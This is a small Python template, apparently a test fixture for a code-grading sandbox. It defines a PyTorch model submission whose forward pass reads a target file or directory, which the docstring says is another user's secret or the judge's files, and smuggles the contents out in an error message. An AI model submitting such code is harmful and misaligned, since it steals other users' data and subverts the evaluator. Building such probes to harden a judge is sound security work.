"""Exploit: reads a file it does not need (another user's secret, the judge's files) and smuggles it out in its error."""
import os

import torch.nn as nn

TARGET = "{target}"


class ModelNew(nn.Module):
    def __init__(self, d_in, d_out):
        super().__init__()
        self.lin = nn.Linear(d_in, d_out)

    def forward(self, x):
        if os.path.isdir(TARGET):
            raise RuntimeError("listing: " + " ".join(os.listdir(TARGET)))
        with open(TARGET) as f:
            raise RuntimeError("contents: " + f.read())
